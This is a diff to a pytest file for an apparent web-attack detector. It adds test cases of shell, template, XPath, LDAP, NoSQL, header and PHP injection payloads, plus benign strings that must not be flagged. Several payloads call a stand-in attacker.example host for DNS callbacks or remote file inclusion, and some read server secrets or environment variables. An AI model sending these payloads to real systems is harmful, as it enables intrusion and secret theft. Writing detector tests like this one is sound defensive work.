@@ -92,6 +92,37 @@ def test_markup_is_read_as_a_browser_reads_it(value: bytes) -> None:
 
 
 @pytest.mark.parametrize(
+    ("value", "kind"),
+    [
+        (b";ps aux", Kind.SHELL),
+        (b"127.0.0.1; ip a", Kind.SHELL),
+        (b"'; id #", Kind.SHELL),
+        (b"a); id; echo (", Kind.SHELL),
+        (b"x|sleep 5", Kind.SHELL),
+        (b";find / -name flag", Kind.SHELL),
+        (b";nslookup attacker.example", Kind.SHELL),
+        (b"--checkpoint-action=exec=id", Kind.SHELL),
+        (b"#{ %x|env| }", Kind.CODE),
+        (b"{{ settings.SECRET_KEY }}", Kind.CODE),
+        (b"'] | //user/*[contains(*,'a", Kind.CODE),
+        (b"*)(&", Kind.CODE),
+        ("\u560d\u560aSet-Cookie:a=b".encode(), Kind.CODE),
+        (b"http:\\\\127.0.0.1\\", Kind.RFI),
+        (b"//127.0.0.1/", Kind.RFI),
+        (b"//attacker.example/share/evil.php", Kind.RFI),
+        (b"\\\\attacker.example\\share\\x", Kind.RFI),
+        (b"{ $ne: 1 }", Kind.SQLI),
+        (b"db.users.find()", Kind.SQLI),
+        (b'".phpinfo()."', Kind.PHP),
+        (b"include 'http://attacker.example/a.txt'", Kind.PHP),
+    ],
+)
+def test_commands_code_and_inner_hosts_are_found_where_they_break_out(value: bytes, kind: Kind) -> None:
+    assert kind in found(asked(value))
+    assert kind in found(posted(value))
+
+
+@pytest.mark.parametrize(
     "text",
     [
         "Protecting a folder with .htaccess and .htpasswd",
@@ -110,6 +141,15 @@ def test_markup_is_read_as_a_browser_reads_it(value: bytes) -> None:
         "a link to ./bin/cli.js in the text",
         "5 > 3 and 2 < 4",
         "Sam",
+        "PHP-FPM with UDS",
+        "add|adduser|check|delete",
+        "the list of www1.example.com http://192.168.211.2:8080 and others",
+        'define(["jquery"], function ($) {',
+        "uQ65Ai!Z3l$(iP",
+        "7&&qBwKG%s75gB",
+        "Returns pg_get_constraintdef (constraint oid)",
+        "Any command accepting any <object> can also use the notation",
+        "The new-object-name is printed below",
         "fix/it (github.com/gnesher '+10/-10 (#6163)')",
     ],
 )
